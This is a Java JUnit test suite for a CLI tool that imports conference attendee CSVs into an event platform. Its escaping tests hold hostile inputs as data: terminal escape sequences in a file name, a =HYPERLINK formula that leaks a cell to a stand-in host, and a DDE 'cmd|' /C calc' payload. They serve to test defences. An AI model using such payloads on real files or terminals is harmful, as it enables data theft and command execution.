package com.huiyi31.cli.imports;

import static com.huiyi31.cli.imports.ImportFiles.args;
import static com.huiyi31.cli.imports.ImportFiles.attendees;
import static com.huiyi31.cli.imports.ImportFiles.journalEvents;
import static com.huiyi31.cli.imports.ImportFiles.results;
import static com.huiyi31.cli.imports.ImportFiles.write;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.huiyi31.cli.Cli;
import java.io.IOException;
import java.net.ServerSocket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** {@code huiyi31 import} end to end, in this JVM, against a counting stand-in of the platform. */
class ImportCommandTest {

  private static FakePlatform platform;

  @TempDir
  Path dir;

  @BeforeAll
  static void startPlatform() {
    platform = new FakePlatform(0);
  }

  @AfterAll
  static void stopPlatform() {
    platform.close();
  }

  @BeforeEach
  void resetCounts() {
    platform.resetCounts();
  }

  @Test
  void aGoodFileIsRegisteredAndEveryRowGetsItsOrderInTheResultCsv() throws IOException {
    Path csv = write(dir, "attendees.csv", "FullName,Mobile,Email,Company,Position\n"
        + "张晓明,13912345678,,ACME,CTO\n"
        + "李四,,li.si@example.com,\"Foo, Inc.\",\n"
        + "王五,+86 139-1234-5679,wang@example.com,,\n");

    Cli.Result result = Cli.run(args(csv, platform.baseUrl()));

    assertThat(result.exitCode()).as(result.toString()).isEqualTo(0);
    assertThat(platform.registered()).containsOnly(Map.entry("张晓明", 1), Map.entry("李四", 1), Map.entry("王五", 1));
    Map<String, Map<String, String>> rows = results(dir.resolve("attendees.result.csv"));
    assertThat(rows.keySet()).containsExactly("张晓明", "李四", "王五");
    rows.forEach((name, row) -> {
      assertThat(row.get("status")).isEqualTo("REGISTERED");
      assertThat(row.get("orderNo")).isEqualTo("order-" + name); // each row got its own answer
      assertThat(row.get("attendeeId")).isEqualTo("attendee-" + name);
      assertThat(row.get("checkinCode")).matches("[0-9]{19}");
      assertThat(row.get("error")).isEmpty();
    });
    assertThat(rows.get("李四").get("Company")).isEqualTo("Foo, Inc."); // the input's columns as given
    assertThat(rows.get("王五").get("Mobile")).isEqualTo("+86 139-1234-5679");
    assertThat(result.out()).contains("3 rows: 3 REGISTERED.");
    assertThat(result.err()).contains("3/3 done, 0 failed"); // not a terminal: plain progress lines
  }

  @Test
  void anExcelFileWithAByteOrderMarkWorksAndTheMarkIsNotPartOfTheFirstColumnName() throws IOException {
    Path csv = dir.resolve("excel.csv");
    Files.write(csv, ("\uFEFFFullName,Mobile\r\nbom-1,13900000001\r\n").getBytes(StandardCharsets.UTF_8));

    Cli.Result result = Cli.run(args(csv, platform.baseUrl()));

    assertThat(result.exitCode()).as(result.toString()).isEqualTo(0);
    assertThat(platform.registered()).containsOnly(Map.entry("bom-1", 1)); // found by the field name "FullName"
    byte[] written = Files.readAllBytes(dir.resolve("excel.result.csv"));
    assertThat(new String(written, StandardCharsets.UTF_8))
        .startsWith("\uFEFFFullName,Mobile,status,orderNo,attendeeId,checkinCode,error\r\nbom-1,13900000001,REGISTERED,order-bom-1,");
  }

  @Test
  void everyBadRowIsReportedWithItsLineAndNoValueAndNothingIsSent() throws IOException {
    Path csv = write(dir, "bad.csv", "FullName,Mobile,Email,ticket\n"
        + "ok-1,13900000001,,\n"
        + "bad-2,12ab34,,\n" // not a mobile number
        + "ok-3,13900000003,,\n"
        + "bad-4,,,\n" // neither mobile nor email
        + "\"bad-5\nstill bad-5\",13900000005,not-an-email,sku-only\n" // a quoted line break: the row starts on line 6
        + "ok-6,13900000006,,\n"
        + "bad-7,13900000007,,,surplus\n"); // an unquoted comma

    Cli.Result result = Cli.run(args(csv, platform.baseUrl()));

    assertThat(result.exitCode()).as(result.toString()).isEqualTo(2);
    assertThat(result.err()).contains("4 of 7 rows are invalid. Nothing was sent.");
    assertThat(result.err()).contains("line 3: column \"Mobile\" is not a mobile number");
    assertThat(result.err()).contains("line 5: the row has no non-empty Mobile or Email field");
    assertThat(result.err()).contains("line 6: column \"ticket\" is not SKU_ID:SKU_NAME[:QTY] (it has no ':' and so no "
        + "SKU_NAME); column \"Email\" is not an email address");
    assertThat(result.err()).contains("line 9: has 5 values but the first line names 4 columns");
    assertThat(result.err()).doesNotContain("line 2:", "line 4:", "line 8:");
    assertThat(result.err()).doesNotContain("12ab34", "not-an-email", "sku-only", "surplus", "bad-");
    assertThat(platform.requests()).isZero();
    assertThat(dir.resolve("bad.csv.journal")).doesNotExist();
    assertThat(dir.resolve("bad.result.csv")).doesNotExist();
  }

  @Test
  void aTicketCellWithAnAmbiguousQuantityIsAnInvalidRowWithItsReason() throws IOException {
    Path csv = write(dir, "tickets.csv", "FullName,Mobile,ticket\n"
        + "t-1,13900000001,sku-1:嘉宾:2\n"
        + "t-2,13900000002,sku-1:嘉宾: 2\n"
        + "t-3,13900000003,sku-1:嘉宾:２\n"
        + "t-4,13900000004,sku-1:嘉宾:12345678901\n"
        + "t-5,13900000005,sku-1:嘉宾：2\n");

    Cli.Result result = Cli.run(args(csv, platform.baseUrl()));

    assertThat(result.exitCode()).as(result.toString()).isEqualTo(2);
    assertThat(result.err()).contains("4 of 5 rows are invalid",
        "line 3: column \"ticket\" is not SKU_ID:SKU_NAME[:QTY] (QTY has spaces around it",
        "line 4: column \"ticket\" is not SKU_ID:SKU_NAME[:QTY] (QTY has digits other than 0-9",
        "line 5: column \"ticket\" is not SKU_ID:SKU_NAME[:QTY] (QTY is more than 100)",
        "line 6: column \"ticket\" is not SKU_ID:SKU_NAME[:QTY] (SKU_NAME ends in a number after a colon that is not ':'")
        .doesNotContain("line 2:", "嘉宾", "t-");
    assertThat(platform.requests()).isZero();
  }

  @Test
  void aDryRunValidatesAndSendsNothing() throws IOException {
    Path csv = attendees(dir, "dry.csv", "dry", 5);

    Cli.Result result = Cli.run(args(csv, platform.baseUrl(), "--dry-run"));

    assertThat(result.exitCode()).as(result.toString()).isEqualTo(0);
    assertThat(result.out()).contains("All 5 rows are valid. Nothing was sent (--dry-run).", "An import would send 5 rows.");
    assertThat(platform.requests()).isZero();
    assertThat(dir.resolve("dry.csv.journal")).doesNotExist();
  }

  @Test
  void aDryRunReportsInvalidRowsWithExitCode2() throws IOException {
    Path csv = write(dir, "dry-bad.csv", "FullName,Email\nx,not-an-email\n");

    Cli.Result result = Cli.run(args(csv, platform.baseUrl(), "--dry-run"));

    assertThat(result.exitCode()).isEqualTo(2);
    assertThat(result.err()).contains("line 2: column \"Email\" is not an email address");
    assertThat(platform.requests()).isZero();
  }

  @Test
  void refusedAndUnknownRowsMakeItPartialAndAReRunSendsOnlyWhatIsSafe() throws IOException {
    Path csv = write(dir, "mixed.csv", "FullName,Mobile\n"
        + "ok-1,13900000001\n"
        + "refuse-2,13900000002\n"
        + "ok-3,13900000003\n"
        + "reset-4,13900000004\n"
        + "busy-5,13900000005\n"
        + "ok-6,13900000006\n");
    Path journal = dir.resolve("mixed.csv.journal");

    Cli.Result first = Cli.run(args(csv, platform.baseUrl()));

    assertThat(first.exitCode()).as(first.toString()).isEqualTo(3);
    Map<String, Map<String, String>> rows = results(dir.resolve("mixed.result.csv"));
    assertThat(rows).hasSize(6);
    assertThat(rows.values().stream().map(row -> row.get("status")).collect(Collectors.toList())).containsExactly(
        "REGISTERED", "REFUSED", "REGISTERED", "UNKNOWN", "FAILED_NOT_PROCESSED", "REGISTERED");
    assertThat(rows.get("refuse-2").get("error")).contains("businessCode 1001", "手机号已被注册");
    assertThat(rows.get("reset-4").get("error")).contains("may have processed", "--resend-unknown");
    assertThat(rows.get("busy-5").get("error")).contains("HTTP 429");
    assertThat(first.out()).contains("Outcome unknown", "line 5.", "--retry-refused): line 3.", "a re-run sends them): line 6.");
    assertThat(platform.received()).containsOnly(Map.entry("ok-1", 1), Map.entry("refuse-2", 1), Map.entry("ok-3", 1),
        Map.entry("reset-4", 1), Map.entry("busy-5", 1), Map.entry("ok-6", 1));
    assertThat(journalEvents(journal))
        .anyMatch(event -> event[1].equals("UNKNOWN") && event[2].equals("5"))
        .anyMatch(event -> event[1].equals("REFUSED") && event[2].equals("3"))
        .anyMatch(event -> event[1].equals("FAILED_NOT_PROCESSED") && event[2].equals("6"));

    // Re-run: registered rows skipped, the refusal and the unknown one not sent; the 429 row sent again.
    platform.resetCounts();
    Cli.Result second = Cli.run(args(csv, platform.baseUrl()));

    assertThat(second.exitCode()).as(second.toString()).isEqualTo(3);
    assertThat(platform.received()).containsOnly(Map.entry("busy-5", 1));
    Map<String, Map<String, String>> again = results(dir.resolve("mixed.result.csv"));
    assertThat(again.get("ok-1")).containsEntry("status", "REGISTERED").containsEntry("orderNo", "order-ok-1"); // from the journal
    assertThat(again.get("refuse-2")).containsEntry("status", "REFUSED");
    assertThat(again.get("reset-4")).containsEntry("status", "UNKNOWN");

    // A person checked: reset-4 is not on the platform. Send it again, and the refused one too.
    platform.resetCounts();
    Cli.Result third = Cli.run(args(csv, platform.baseUrl(), "--resend-unknown", "--retry-refused"));

    assertThat(third.exitCode()).as(third.toString()).isEqualTo(3); // refused again, unknown again, 429 again
    assertThat(platform.received()).containsOnly(Map.entry("refuse-2", 1), Map.entry("reset-4", 1), Map.entry("busy-5", 1));
  }

  @Test
  void anUnreachablePlatformStopsTheRunWithExit1AndTheNextRunSendsEveryRow() throws IOException {
    Path csv = attendees(dir, "offline.csv", "offline", 20);
    int closedPort;
    try (ServerSocket socket = new ServerSocket(0)) {
      closedPort = socket.getLocalPort();
    }

    Cli.Result offline = Cli.run(args(csv, "http://127.0.0.1:" + closedPort, "--concurrency", "2"));

    assertThat(offline.exitCode()).as(offline.toString()).isEqualTo(1);
    assertThat(offline.err()).contains("Stopped: 10 rows in a row could not be sent");
    Map<String, Map<String, String>> rows = results(dir.resolve("offline.result.csv"));
    assertThat(rows).hasSize(20).allSatisfy((name, row) -> assertThat(row.get("status")).isEqualTo("FAILED_NOT_SENT"));
    List<String[]> events = journalEvents(dir.resolve("offline.csv.journal"));
    long journaled = events.stream().filter(event -> event[1].equals("SENDING")).count();
    long waited = events.stream().filter(event -> String.join("\t", event).endsWith(
        "reason=not sent: the import stopped before the row's turn")).count();
    long tried = journaled - waited;
    assertThat(tried).as("rows tried before stopping").isBetween(10L, 11L);
    assertThat(waited).as("rows journaled by the 4 workers, not sent: the run had stopped").isLessThanOrEqualTo(3);
    assertThat(rows.values()).filteredOn(row -> row.get("error").startsWith("not sent: 10 rows in a row")).hasSize(20 - (int) tried);

    Cli.Result online = Cli.run(args(csv, platform.baseUrl()));

    assertThat(online.exitCode()).as(online.toString()).isEqualTo(0);
    assertThat(platform.registered()).hasSize(20).allSatisfy((name, count) -> assertThat(count).isEqualTo(1));
  }

  @Test
  void aReRunOfACompleteImportSendsNothingAndExitsWith0() throws IOException {
    Path csv = attendees(dir, "done.csv", "done", 4);
    assertThat(Cli.run(args(csv, platform.baseUrl())).exitCode()).isEqualTo(0);
    platform.resetCounts();

    Cli.Result again = Cli.run(args(csv, platform.baseUrl()));

    assertThat(again.exitCode()).as(again.toString()).isEqualTo(0);
    assertThat(platform.requests()).isZero();
    assertThat(again.out()).contains("4 rows: 4 REGISTERED (4 by an earlier run).");
    assertThat(results(dir.resolve("done.result.csv")).get("done-004")).containsEntry("orderNo", "order-done-004");
  }

  @Test
  void anEditedFileIsRefusedButRowsAddedAtTheEndAreImported() throws IOException {
    Path csv = attendees(dir, "edit.csv", "edit", 3);
    assertThat(Cli.run(args(csv, platform.baseUrl())).exitCode()).isEqualTo(0);
    String original = Files.readString(csv);
    platform.resetCounts();

    write(dir, "edit.csv", original.replace("edit-002,13900000002", "edit-002,13900000099"));
    Cli.Result edited = Cli.run(args(csv, platform.baseUrl()));

    assertThat(edited.exitCode()).as(edited.toString()).isEqualTo(2);
    assertThat(edited.err()).contains("The file changed since the journal", "line 3 (REGISTERED) has different content");
    assertThat(edited.err()).doesNotContain("13900000099");
    assertThat(platform.requests()).isZero();

    write(dir, "edit.csv", original + "edit-004,13900000004,ACME\n");
    Cli.Result appended = Cli.run(args(csv, platform.baseUrl()));

    assertThat(appended.exitCode()).as(appended.toString()).isEqualTo(0);
    assertThat(platform.received()).containsOnly(Map.entry("edit-004", 1));
  }

  @Test
  void resultsThatCannotBeWrittenFailTheRunButAReRunWritesThemWithoutSendingAgain() throws IOException {
    Path csv = attendees(dir, "locked.csv", "locked", 2);
    Path blocked = Files.createDirectories(dir.resolve("blocked.csv"));
    Files.writeString(blocked.resolve("keep"), "a non-empty directory cannot be replaced by a file");

    Cli.Result first = Cli.run(args(csv, platform.baseUrl(), "--out", blocked.toString()));

    assertThat(first.exitCode()).as(first.toString()).isEqualTo(1);
    assertThat(first.err()).contains("The results could not be written", "Run the same command again");
    assertThat(platform.registered()).hasSize(2);
    platform.resetCounts();

    Cli.Result second = Cli.run(args(csv, platform.baseUrl()));

    assertThat(second.exitCode()).as(second.toString()).isEqualTo(0);
    assertThat(platform.requests()).isZero();
    assertThat(results(dir.resolve("locked.result.csv")).get("locked-002")).containsEntry("orderNo", "order-locked-002");
  }

  @Test
  void anotherEventsJournalIsNotContinued() throws IOException {
    Path csv = attendees(dir, "event.csv", "event", 1);
    assertThat(Cli.run(args(csv, platform.baseUrl())).exitCode()).isEqualTo(0);
    platform.resetCounts();

    Cli.Result other = Cli.run("import", csv.toString(), "--base-url", platform.baseUrl(), "--event", "another-event",
        "--type", ImportFiles.TYPE, "--ticket", ImportFiles.TICKET);

    assertThat(other.exitCode()).isEqualTo(2);
    assertThat(other.err()).contains("belongs to an import with a different --event");
    assertThat(platform.requests()).isZero();
  }

  @Test
  void theJournalHoldsNoPersonalValue() throws IOException {
    // StringField1 first: the stand-in echoes the first field into orderNo, and it is no personal value.
    Path csv = write(dir, "private.csv", "StringField1,FullName,Mobile,Email,Company\n"
        + "row-1,张晓明,13912345678,zhang@example.com,秘密公司\n"
        + "refuse-2,李四,13987654321,li@example.com,另一家\n");

    Cli.Result result = Cli.run(args(csv, platform.baseUrl()));

    assertThat(result.exitCode()).isEqualTo(3);
    String journal = Files.readString(dir.resolve("private.csv.journal"));
    assertThat(journal).contains("REGISTERED", "REFUSED");
    assertThat(journal).doesNotContain("张晓明", "13912345678", "zhang@example.com", "秘密公司", "李四", "13987654321",
        "li@example.com", "另一家");
  }

  @Test
  void thePlatformsTextReachesTheTerminalAndTheResultsEscapedWithItsMobilesMasked() throws IOException {
    String name = "guests\u001b]0;pwned\u0007"; // a file name is anyone's text too
    Path csv = write(dir, name + ".csv", "FullName,Mobile\nhostile-1,13912345678\nok-2,13900000002\n");

    Cli.Result result = Cli.run(args(csv, platform.baseUrl()));

    assertThat(result.exitCode()).as(result.toString()).isEqualTo(3);
    assertThat(result.out() + result.err()).doesNotContain("\u001b", "\u0007", "\u009b", "\u202e", "13912345678")
        .contains("guests\\x1b]0;pwned\\x07.result.csv", "--retry-refused): line 2.");
    String error = results(dir.resolve(name + ".result.csv")).get("hostile-1").get("error");
    assertThat(error).contains("businessCode 1001", "手机号139****5678已被张晓明注册\\x9b31m\\u202e")
        .doesNotContain("\u001b", "\u0007", "\u009b", "\u202e", "13912345678");

    Path columns = write(dir, "columns.csv", "FullName,\"x\u001b[2J\",\"X\u001b[2J\"\nok-3,1,2\n");
    Cli.Result twice = Cli.run(args(columns, platform.baseUrl()));
    assertThat(twice.exitCode()).isEqualTo(2);
    assertThat(twice.err()).contains("both named \"X\\x1b[2J\"").doesNotContain("\u001b");
  }

  @Test
  void cellsASpreadsheetWouldRunAsFormulasStartWithAQuoteUnlessRawCellsAreAskedFor() throws IOException {
    String leak = "=HYPERLINK(\"http://x/?leak=\"&B2,\"formula-1\")";
    Path csv = write(dir, "formulas.csv", "FullName,Mobile,Company,Position\n"
        + "\"" + leak.replace("\"", "\"\"") + "\",13900000001,\" @cmd\",-5\n"
        + "formula-2,+86 139-1234-5679,\"\tx\",＝1+1\n");

    Cli.Result result = Cli.run(args(csv, platform.baseUrl()));

    assertThat(result.exitCode()).as(result.toString()).isEqualTo(0);
    Map<String, Map<String, String>> rows = results(dir.resolve("formulas.result.csv"));
    assertThat(rows.keySet()).containsExactly("'" + leak, "formula-2");
    assertThat(rows.get("'" + leak)).containsEntry("Company", "' @cmd").containsEntry("Position", "-5") // a number is kept
        .containsEntry("orderNo", "'=1+2").containsEntry("attendeeId", "'@SUM(1)")
        .containsEntry("checkinCode", "'-2+3+cmd|' /C calc'!A0");
    assertThat(rows.get("formula-2")).containsEntry("Mobile", "+86 139-1234-5679").containsEntry("Company", "'\tx")
        .containsEntry("Position", "'＝1+1");
    assertThat(platform.received()).containsOnlyKeys(leak, "formula-2"); // what was sent is the file's

    Cli.Result raw = Cli.run(args(csv, platform.baseUrl(), "--raw-csv"));

    assertThat(raw.exitCode()).as(raw.toString()).isEqualTo(0);
    Map<String, Map<String, String>> rawRows = results(dir.resolve("formulas.result.csv"));
    assertThat(rawRows.get(leak)).containsEntry("Company", " @cmd").containsEntry("orderNo", "=1+2")
        .containsEntry("attendeeId", "@SUM(1)").containsEntry("checkinCode", "-2+3+cmd|' /C calc'!A0");
    assertThat(rawRows.get("formula-2")).containsEntry("Company", "\tx").containsEntry("Position", "＝1+1");
  }

  @Test
  void theJournalAndTheResultsAreTheirOwnersAlone() throws IOException {
    assumeTrue(dir.getFileSystem().supportedFileAttributeViews().contains("posix"), "file permissions are POSIX ones");
    Path csv = attendees(dir, "owner.csv", "owner", 2);
    Path journal = dir.resolve("owner.csv.journal");
    Path result = dir.resolve("owner.result.csv");

    Cli.Result first = Cli.run(args(csv, platform.baseUrl()));

    assertThat(first.exitCode()).as(first.toString()).isEqualTo(0);
    assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(journal))).isEqualTo("rw-------");
    assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(result))).isEqualTo("rw-------");

    // A journal an earlier version left readable by everyone is made its owner's alone when continued.
    Files.setPosixFilePermissions(journal, PosixFilePermissions.fromString("rw-r--r--"));
    Files.setPosixFilePermissions(result, PosixFilePermissions.fromString("rw-r--r--"));
    Cli.Result again = Cli.run(args(csv, platform.baseUrl()));

    assertThat(again.exitCode()).as(again.toString()).isEqualTo(0);
    assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(journal))).isEqualTo("rw-------");
    assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(result))).isEqualTo("rw-------");
  }

  @Test
  void theJournalKeepsNoTextOfThePlatformsOrAServersButItsCodes() throws IOException {
    Path csv = write(dir, "texts.csv", "FullName,Mobile\nhostile-1,13900000001\ngateway-2,13900000002\nbusy-3,13900000003\n");
    Path journal = dir.resolve("texts.csv.journal");

    Cli.Result first = Cli.run(args(csv, platform.baseUrl()));

    assertThat(first.exitCode()).as(first.toString()).isEqualTo(3);
    assertThat(Files.readString(journal)).contains("businessCode=1001", "httpStatus=502", "httpStatus=429")
        .doesNotContain("手机号", "张晓明", "139****5678", "13912345678", "\u001b", "系统繁忙", "html", "POST /op");
    Map<String, Map<String, String>> rows = results(dir.resolve("texts.result.csv"));
    assertThat(rows.get("hostile-1").get("error")).contains("手机号139****5678已被张晓明注册"); // the run's own results have it
    assertThat(rows.get("gateway-2").get("error")).contains("HTTP 502", "系统繁忙", "139****5678");

    Cli.Result again = Cli.run(args(csv, platform.baseUrl()));

    assertThat(again.exitCode()).as(again.toString()).isEqualTo(3);
    Map<String, Map<String, String>> reported = results(dir.resolve("texts.result.csv"));
    assertThat(reported.get("hostile-1")).containsEntry("status", "REFUSED");
    assertThat(reported.get("hostile-1").get("error")).contains("businessCode 1001", "--retry-refused").doesNotContain("张晓明");
    assertThat(reported.get("gateway-2")).containsEntry("status", "UNKNOWN");
    assertThat(reported.get("gateway-2").get("error")).contains("HTTP 502", "--resend-unknown").doesNotContain("系统繁忙");
    assertThat(Files.readString(journal)).doesNotContain("张晓明", "系统繁忙", "139****5678");
  }

  @Test
  void aJournalOfTheEarlierFormatIsContinuedWithItsUnkeyedHashes() throws IOException {
    Path csv = write(dir, "legacy.csv", "FullName,Mobile\nlegacy-1,13900000001\nrefuse-2,13900000002\nlegacy-3,13900000003\n");
    List<String> columns = List.of("FullName", "Mobile");
    String line2 = CsvInput.hash(columns, List.of("legacy-1", "13900000001"));
    String line3 = CsvInput.hash(columns, List.of("refuse-2", "13900000002"));
    Path journal = write(dir, "legacy.csv.journal", "# huiyi31 import journal, format 1. Append-only: do not edit.\n"
        + "2025-05-01T08:00:00.120Z\tJOURNAL\tevent=" + ImportFiles.EVENT + "\ttype=" + ImportFiles.TYPE + "\n"
        + "2025-05-01T08:00:00.125Z\tRUN\tpid=4242\tconcurrency=4\trate=none\tretryRefused=false\tresendUnknown=false\n"
        + "2025-05-01T08:00:00.130Z\tSENDING\t2\t" + line2 + "\n"
        + "2025-05-01T08:00:00.190Z\tREGISTERED\t2\t" + line2 + "\torderNo=order-legacy-1\tattendeeId=a-1\tcheckinCode=1\n"
        + "2025-05-01T08:00:00.200Z\tSENDING\t3\t" + line3 + "\n"
        + "2025-05-01T08:00:00.210Z\tREFUSED\t3\t" + line3 + "\tbusinessCode=1001\tmessage=POST /op/notoken/api/Attendee/v1/"
        + "Register was refused by the platform: businessCode 1001 (手机号已被注册).\n");

    Cli.Result result = Cli.run(args(csv, platform.baseUrl()));

    assertThat(result.exitCode()).as(result.toString()).isEqualTo(3); // line 3 stays refused
    assertThat(platform.received()).containsOnly(Map.entry("legacy-3", 1));
    assertThat(result.err()).contains("written by an earlier version of huiyi31 (format 1)", "Delete it once this import");
    Map<String, Map<String, String>> rows = results(dir.resolve("legacy.result.csv"));
    assertThat(rows.get("legacy-1")).containsEntry("status", "REGISTERED").containsEntry("orderNo", "order-legacy-1");
    assertThat(rows.get("refuse-2")).containsEntry("status", "REFUSED");
    assertThat(rows.get("refuse-2").get("error")).contains("(手机号已被注册)", "--retry-refused");
    assertThat(rows.get("legacy-3")).containsEntry("status", "REGISTERED").containsEntry("orderNo", "order-legacy-3");
    assertThat(Files.readString(journal)).doesNotContain("format=2");
    assertThat(journalEvents(journal)).anyMatch(event -> event[1].equals("REGISTERED") && event[2].equals("4")
        && event[3].equals(CsvInput.hash(columns, List.of("legacy-3", "13900000003"))));
    assertThat(RowKeys.keyFile(journal)).doesNotExist();

    write(dir, "legacy.csv", Files.readString(csv).replace("legacy-1,13900000001", "legacy-1,13900000009"));
    Cli.Result edited = Cli.run(args(csv, platform.baseUrl()));

    assertThat(edited.exitCode()).as(edited.toString()).isEqualTo(2);
    assertThat(edited.err()).contains("line 2 (REGISTERED) has different content");
  }

  @Test
  void aJournalIsContinuedOnlyWithItsOwnKeyFile() throws IOException {
    Path csv = attendees(dir, "keyed.csv", "keyed", 2);
    Path journal = dir.resolve("keyed.csv.journal");
    assertThat(Cli.run(args(csv, platform.baseUrl())).exitCode()).isEqualTo(0);
    Path key = RowKeys.keyFile(journal);
    assertThat(key).hasFileName("keyed.csv.journal.key").exists();
    if (dir.getFileSystem().supportedFileAttributeViews().contains("posix")) {
      assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(key))).isEqualTo("rw-------");
    }
    assertThat(Cli.run(args(attendees(dir, "other.csv", "other", 1), platform.baseUrl())).exitCode()).isEqualTo(0);
    write(dir, "keyed.csv", Files.readString(csv) + "keyed-003,13900000003,ACME\n");
    platform.resetCounts();

    Files.copy(dir.resolve("other.csv.journal.key"), key, StandardCopyOption.REPLACE_EXISTING);
    Cli.Result wrong = Cli.run(args(csv, platform.baseUrl()));
    Files.delete(key);
    Cli.Result missing = Cli.run(args(csv, platform.baseUrl()));
    Cli.Result dryRun = Cli.run(args(csv, platform.baseUrl(), "--dry-run"));

    assertThat(wrong.exitCode()).as(wrong.toString()).isEqualTo(2);
    assertThat(wrong.err()).contains("is not the key of the journal");
    for (Cli.Result refused : List.of(missing, dryRun)) {
      assertThat(refused.exitCode()).as(refused.toString()).isEqualTo(2);
      assertThat(refused.err()).contains("needs its key file", "which is missing", "Nothing was sent");
    }
    assertThat(platform.requests()).isZero();
  }

  @Test
  void helpSaysHowTheFilesAreProtected() {
    Cli.Result help = Cli.run("import", "--help");

    assertThat(help.exitCode()).isZero();
    assertThat(help.out().replaceAll("\\s+", " "))
        .contains("FILE.journal.key", "owner-only", "safe to open in a spreadsheet", "--raw-csv", "its name + .key");
  }

  @Test
  void requestsInFlightNeverExceedTheConcurrency() throws IOException {
    try (FakePlatform slow = new FakePlatform(20)) {
      Path csv = attendees(dir, "many.csv", "many", 40);

      Cli.Result result = Cli.run(args(csv, slow.baseUrl(), "--concurrency", "4"));

      assertThat(result.exitCode()).as(result.toString()).isEqualTo(0);
      assertThat(slow.registered()).hasSize(40).allSatisfy((name, count) -> assertThat(count).isEqualTo(1));
      assertThat(slow.maxInFlight()).isBetween(2, 4);
    }
  }

  @Test
  void rowsAreSentInFileOrder() throws IOException {
    try (FakePlatform slow = new FakePlatform(5)) {
      Path csv = attendees(dir, "order.csv", "order", 12);

      Cli.Result result = Cli.run(args(csv, slow.baseUrl(), "--concurrency", "1"));

      assertThat(result.exitCode()).as(result.toString()).isEqualTo(0);
      // Twice --concurrency workers journal rows while a request is out; they take the slot in file order.
      assertThat(slow.receivedInOrder()).containsExactly("order-001", "order-002", "order-003", "order-004",
          "order-005", "order-006", "order-007", "order-008", "order-009", "order-010", "order-011", "order-012");
    }
  }

  @Test
  void theFirstRequestGoesAloneSoThatNoneQueueBehindItsWarmUp() throws IOException {
    try (FakePlatform slow = new FakePlatform(300)) {
      Path csv = attendees(dir, "first.csv", "first", 6);

      Cli.Result result = Cli.run(args(csv, slow.baseUrl(), "--concurrency", "4", "--rate", "50"));

      assertThat(result.exitCode()).as(result.toString()).isEqualTo(0);
      List<Long> arrivals = slow.arrivals().stream().sorted().collect(Collectors.toList());
      assertThat(arrivals).hasSize(6);
      // The platform answers after 300 ms: no second request may arrive before the first's answer.
      // (Without the wait, at --rate 50 the second left 20 ms after the first; a new JVM's slow first
      // request let the rest out in a burst: docs/benchmarks.md.)
      assertThat(arrivals.get(1) - arrivals.get(0)).as("gap after the first request, ns").isGreaterThanOrEqualTo(300_000_000L);
      assertThat(slow.registered()).hasSize(6);
    }
  }

  @Test
  void theRateLimitSpacesTheRequests() throws IOException {
    Path csv = attendees(dir, "rate.csv", "rate", 10);

    Cli.Result result = Cli.run(args(csv, platform.baseUrl(), "--rate", "20", "--concurrency", "4"));

    assertThat(result.exitCode()).as(result.toString()).isEqualTo(0);
    List<Long> arrivals = platform.arrivals().stream().sorted().collect(Collectors.toList());
    assertThat(arrivals).hasSize(10);
    // 20/s: a request every 50 ms. Unlimited, all 10 would arrive within a few milliseconds. The
    // median gap ignores a first request slowed by opening its connection.
    List<Long> gaps = new java.util.ArrayList<>();
    for (int i = 1; i < arrivals.size(); i++) {
      gaps.add(arrivals.get(i) - arrivals.get(i - 1));
    }
    java.util.Collections.sort(gaps);
    assertThat(gaps.get(gaps.size() / 2)).as("median gap, ns").isGreaterThan(35_000_000L);
    assertThat(arrivals.get(9) - arrivals.get(0)).as("span, ns").isGreaterThanOrEqualTo(300_000_000L);
  }

  @Test
  void aRateOutsideOneHundredthToOneThousandIsAUsageError() throws IOException {
    Path csv = attendees(dir, "rates.csv", "rates", 2);

    // 1e-300 was accepted and, its spacing overflowing, sent every row at once.
    for (String rate : List.of("1e-300", "0.009", "0", "-1", "1000.01", "1e9", "NaN", "Infinity", "-Infinity", "fast")) {
      Cli.Result result = Cli.run(args(csv, platform.baseUrl(), "--rate", rate));
      assertThat(result.exitCode()).as(rate + ": " + result).isEqualTo(2);
      assertThat(result.err()).as(rate).contains("--rate", "'" + rate + "' is not a rate from 0.01 to 1000 requests per second");
    }
    for (String rate : List.of("0.01", "1000", "1e3", "0.5")) {
      Cli.Result result = Cli.run(args(csv, platform.baseUrl(), "--rate", rate, "--dry-run"));
      assertThat(result.exitCode()).as(rate + ": " + result).isEqualTo(0);
    }
    assertThat(platform.requests()).isZero();
    assertThat(Cli.run("import", "--help").out()).contains("N from 0.01 to 1000");
  }

  @Test
  void usageErrorsExitWith2() throws IOException {
    Path csv = attendees(dir, "usage.csv", "usage", 1);

    assertThat(Cli.run(args(csv, platform.baseUrl(), "--concurrency", "0")).exitCode()).isEqualTo(2);
    assertThat(Cli.run(args(csv, platform.baseUrl(), "--rate", "-1")).exitCode()).isEqualTo(2);
    assertThat(Cli.run("import", csv.toString(), "--ticket", "no-colon", "--event", "e", "--type", "t").exitCode()).isEqualTo(2);
    Cli.Result missing = Cli.run(args(dir.resolve("missing.csv"), platform.baseUrl()));
    assertThat(missing.exitCode()).isEqualTo(2);
    assertThat(missing.err()).contains("does not exist");
    Path header = write(dir, "twice.csv", "FullName,Mobile,mobile\nx,13900000001,13900000002\n");
    Cli.Result twice = Cli.run(args(header, platform.baseUrl()));
    assertThat(twice.exitCode()).isEqualTo(2);
    assertThat(twice.err()).contains("Columns 2 and 3 are both named \"mobile\"");
    Path gbk = dir.resolve("gbk.csv");
    Files.write(gbk, new byte[] {'F', 'u', 'l', 'l', 'N', 'a', 'm', 'e', '\n', (byte) 0xD5, (byte) 0xC5, '\n'});
    Cli.Result notUtf8 = Cli.run(args(gbk, platform.baseUrl()));
    assertThat(notUtf8.exitCode()).isEqualTo(2);
    assertThat(notUtf8.err()).contains("is not UTF-8 text");
    assertThat(platform.requests()).isZero();
  }
}
